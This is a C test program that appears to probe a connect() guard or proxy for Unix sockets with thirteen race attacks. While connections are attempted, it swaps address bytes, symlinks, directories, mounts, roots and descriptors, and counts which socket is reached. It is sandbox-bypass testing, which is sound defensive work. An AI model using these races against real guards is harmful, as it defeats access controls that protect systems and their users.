/*
 * What is looked at and what is used, made to differ: another thread or process
 * keeps changing what a connect() means while it is judged.
 *
 * Every race has two names, one that leads to the guarded socket and one that
 * leads to the other. Who was reached is told by the name the socket at the other
 * end is bound to, as thousands of requests would take too long.
 */
#include "attack.h"

#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/uio.h>

#define TRIES	       5000
#define TRIES_SWAPPING 20000
#define TRIES_MOUNTING 3000
#define RESTARTS       500
#define FLIPS	       20	/* without which it was no race */
#define FLIPS_MAX      10000000 /* two threads of one processor see few of them */

struct tally {
	int count[ANSWER_NUM]; /* ANSWER_NONE: connect() failed */
};

/* What the thread beside does, over and over. */
static void (*flip)(bool odd);
static atomic_bool over;
static atomic_int flips;

static void *flip_until_over(void *unused)
{
	bool odd = false;

	(void)unused;
	while (!atomic_load(&over)) {
		flip(odd = !odd);
		atomic_fetch_add(&flips, 1);
	}
	return NULL;
}

/**
 * tally_add() - Count where a socket went
 * @t:	Tally
 * @fd:	Socket
 * @rc:	What connect() returned
 */
static void tally_add(struct tally *t, int fd, int rc)
{
	struct sockaddr_un sun = { 0 };
	socklen_t len = sizeof(sun) - 1;
	enum answer who;

	if (rc < 0 || getpeername(fd, (struct sockaddr *)&sun, &len) < 0)
		who = ANSWER_NONE;
	else if (strcmp(sun.sun_path, guard) == 0)
		who = ANSWER_REAL;
	else if (strcmp(sun.sun_path, other) == 0)
		who = ANSWER_OTHER;
	else
		who = ANSWER_PROXY;
	t->count[who]++;
}

static const char *tally_text(const struct tally *t)
{
	return format("real=%d proxy=%d other=%d none=%d", t->count[ANSWER_REAL],
		      t->count[ANSWER_PROXY], t->count[ANSWER_OTHER], t->count[ANSWER_NONE]);
}

/* Both have been reached, or it was tried hard enough. */
static bool was_a_race(const struct tally *t)
{
	int n = atomic_load(&flips);

	return n > FLIPS_MAX || (n > FLIPS && t->count[ANSWER_REAL] + t->count[ANSWER_PROXY] > 0);
}

/**
 * connect_times() - Connect to the same address over and over
 * @tries:	How often, at least
 * @flipped:	Go on until what is beside has changed something a few times
 * @sun:	Address, changing meanwhile
 * @len:	Its length
 *
 * Return: the outcome.
 */
static const char *connect_times(int tries, bool flipped, struct sockaddr_un *sun, socklen_t len)
{
	struct tally t = { 0 };
	int i, fd;

	for (i = 0; i < tries || (flipped && !was_a_race(&t)); i++) {
		fd = unix_socket();
		tally_add(&t, fd, connect(fd, (struct sockaddr *)sun, len));
		close(fd);
	}
	return tally_text(&t);
}

/* The same while a thread beside flips something. */
static const char *race(int tries, struct sockaddr_un *sun, socklen_t len, void (*what)(bool odd))
{
	const char *said;
	pthread_t beside;

	flip = what;
	pthread_create(&beside, NULL, flip_until_over, NULL);
	said = connect_times(tries, true, sun, len);
	atomic_store(&over, true);
	pthread_join(beside, NULL);
	return said;
}

/* ---- the bytes of the address ---- */

static char *last_byte; /* of the path: a is a link to the guarded socket, b to the other */

/**
 * two_links() - Make the links, and an address that one byte changes
 * @sun:	On return, the address
 *
 * Return: its length.
 */
static socklen_t two_links(struct sockaddr_un *sun)
{
	socklen_t len;

	must(symlink(guard, in_work("a")), "symlink");
	must(symlink(other, in_work("b")), "symlink");
	len = address(sun, in_work("a"));
	last_byte = &sun->sun_path[strlen(sun->sun_path) - 1];
	return len;
}

static void flip_byte(bool odd)
{
	*(volatile char *)last_byte = odd ? 'a' : 'b';
}

static const char *rewritten_address(void)
{
	static struct sockaddr_un sun;
	socklen_t len = two_links(&sun);

	return race(TRIES, &sun, len, flip_byte);
}

/* Another process changes it, ended when this one has done. */
static const char *race_process(struct sockaddr_un *sun, socklen_t len, void (*what)(bool odd))
{
	const char *said;
	bool odd = false;
	pid_t pid;

	pid = must(fork(), "fork");
	while (pid == 0)
		what(odd = !odd);
	said = connect_times(TRIES, false, sun, len);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return said;
}

static struct sockaddr_un *shared_address(void)
{
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	must(page == MAP_FAILED ? -1 : 0, "mmap");
	return page;
}

static const char *shared_memory(void)
{
	struct sockaddr_un *sun = shared_address();
	socklen_t len = two_links(sun);

	return race_process(sun, len, flip_byte);
}

static void flip_by_vm_write(bool odd)
{
	struct iovec from = { (void *)(odd ? "a" : "b"), 1 }, to = { last_byte, 1 };

	process_vm_writev(getppid(), &from, 1, &to, 1, 0);
}

static const char *process_vm_writer(void)
{
	static struct sockaddr_un sun;
	socklen_t len = two_links(&sun);

	return race_process(&sun, len, flip_by_vm_write);
}

static void flip_by_proc_mem(bool odd)
{
	static int fd = -1;

	if (fd < 0)
		fd = open(format("/proc/%d/mem", getppid()), O_WRONLY);
	if (pwrite(fd, odd ? "a" : "b", 1, (off_t)last_byte) < 0)
		exit(1);
}

static const char *proc_mem_writer(void)
{
	static struct sockaddr_un sun;
	socklen_t len = two_links(&sun);

	return race_process(&sun, len, flip_by_proc_mem);
}

/* ---- what the path leads to ---- */

static const char *path_a, *path_b;

static void flip_names(bool odd)
{
	(void)odd;
	renameat2(AT_FDCWD, path_a, AT_FDCWD, path_b, RENAME_EXCHANGE);
}

static const char *exchanged_links(void)
{
	struct sockaddr_un sun;
	socklen_t len = two_links(&sun);

	path_a = in_work("a");
	path_b = in_work("b");
	return race(TRIES, &sun, len, flip_names);
}

/* A directory on the way, not the last name. */
static const char *exchanged_directories(void)
{
	struct sockaddr_un sun;
	socklen_t len;

	path_a = in_work("x");
	path_b = in_work("y");
	must(mkdir(path_a, 0755), "mkdir");
	must(mkdir(path_b, 0755), "mkdir");
	must(link(guard, in_work("x/s")), "link");
	must(link(other, in_work("y/s")), "link");
	len = address(&sun, in_work("x/s"));
	return race(TRIES, &sun, len, flip_names);
}

/* The guarded name itself, and other's: both sockets are at it by turns. */
static const char *exchanged_sockets(void)
{
	struct sockaddr_un sun;
	socklen_t len = address(&sun, other);

	path_a = guard;
	path_b = other;
	return race(TRIES, &sun, len, flip_names);
}

/* The guarded name comes and goes; the socket has another. */
static void flip_presence(bool odd)
{
	if (odd)
		unlink(guard);
	else
		must(link(in_work("hard"), guard), "link");
}

static const char *coming_and_going(void)
{
	struct sockaddr_un sun;
	socklen_t len = address(&sun, in_work("hard"));

	must(link(guard, in_work("hard")), "link");
	return race(TRIES, &sun, len, flip_presence);
}

static void flip_directory(bool odd)
{
	must(chdir(odd ? path_a : path_b), "chdir");
}

static const char *changing_directory(void)
{
	struct sockaddr_un sun;
	socklen_t len = address(&sun, "s");

	path_a = in_work("x");
	path_b = in_work("y");
	must(mkdir(path_a, 0755), "mkdir");
	must(mkdir(path_b, 0755), "mkdir");
	must(symlink(guard, in_work("x/s")), "symlink");
	must(symlink(other, in_work("y/s")), "symlink");
	flip_directory(true);
	return race(TRIES, &sun, len, flip_directory);
}

static int dir_a, dir_b;

static void flip_root(bool odd)
{
	must(fchdir(odd ? dir_a : dir_b), "fchdir");
	must(chroot("."), "chroot");
}

static const char *changing_root(void)
{
	struct sockaddr_un sun;
	socklen_t len = address(&sun, "/s");

	must(mkdir(in_work("x"), 0755), "mkdir");
	must(mkdir(in_work("y"), 0755), "mkdir");
	must(link(guard, in_work("x/s")), "link");
	must(link(other, in_work("y/s")), "link");
	dir_a = must(open(in_work("x"), O_PATH), "open");
	dir_b = must(open(in_work("y"), O_PATH), "open");
	enter_userns(0);
	flip_root(true);
	return race(TRIES, &sun, len, flip_root);
}

static void flip_mount(bool odd)
{
	if (odd)
		must(mount(guard, path_a, NULL, MS_BIND, NULL), "mount");
	else
		must(umount2(path_a, MNT_DETACH), "umount");
}

static const char *changing_mount(void)
{
	struct sockaddr_un sun;
	socklen_t len = address(&sun, in_work("m"));

	path_a = in_work("m");
	must(link(other, path_a), "link");
	enter_userns(CLONE_NEWNS);
	return race(TRIES_MOUNTING, &sun, len, flip_mount);
}

/* The server is restarted over and over; its new socket is moved as soon as it is there. */
static struct tally moved;

static void move_and_connect(bool odd)
{
	struct sockaddr_un sun;
	socklen_t len = address(&sun, path_a);
	int fd;

	(void)odd;
	if (rename(guard, path_a) < 0)
		return;
	do {
		fd = unix_socket();
		tally_add(&moved, fd, connect(fd, (struct sockaddr *)&sun, len));
		close(fd);
	} while (access(guard, F_OK) < 0 && !atomic_load(&over));
}

static const char *restarting(void)
{
	pthread_t beside;
	int i;

	path_a = in_work("moved");
	flip = move_and_connect;
	pthread_create(&beside, NULL, flip_until_over, NULL);
	for (i = 0; i < RESTARTS; i++)
		ask("restart");
	atomic_store(&over, true);
	pthread_join(beside, NULL);
	return tally_text(&moved);
}

/* ---- what the descriptor is ---- */

#define SWAPPED_FD 100

static int inet_fd;
static atomic_int unix_fd;

static void flip_descriptor(bool odd)
{
	dup2(odd ? inet_fd : atomic_load(&unix_fd), SWAPPED_FD);
}

static const char *swapped_descriptor(void)
{
	struct sockaddr_un sun;
	socklen_t len = address(&sun, guard);
	struct tally t = { 0 };
	pthread_t beside;
	int i, fd, rc;

	inet_fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");
	atomic_store(&unix_fd, unix_socket());
	flip = flip_descriptor;
	flip(true);
	pthread_create(&beside, NULL, flip_until_over, NULL);
	for (i = 0; i < TRIES_SWAPPING || !was_a_race(&t); i++) {
		rc = connect(SWAPPED_FD, (struct sockaddr *)&sun, len);
		fd = atomic_load(&unix_fd);
		if (rc == 0 || (errno != EAFNOSUPPORT && errno != EBADF)) {
			tally_add(&t, fd, rc);
			atomic_store(&unix_fd, unix_socket());
			close(fd);
		} else {
			t.count[ANSWER_NONE]++;
		}
	}
	atomic_store(&over, true);
	pthread_join(beside, NULL);
	return tally_text(&t);
}

static const struct attack attacks[] = {
	{ "rewritten_address", rewritten_address },
	{ "shared_memory", shared_memory },
	{ "process_vm_writer", process_vm_writer },
	{ "proc_mem_writer", proc_mem_writer },
	{ "exchanged_links", exchanged_links },
	{ "exchanged_directories", exchanged_directories },
	{ "exchanged_sockets", exchanged_sockets },
	{ "coming_and_going", coming_and_going },
	{ "changing_directory", changing_directory },
	{ "changing_root", changing_root },
	{ "changing_mount", changing_mount },
	{ "restarting", restarting },
	{ "swapped_descriptor", swapped_descriptor },
};

int main(int argc, char **argv)
{
	return attack_main(argc, argv, attacks, ARRAY_SIZE(attacks));
}
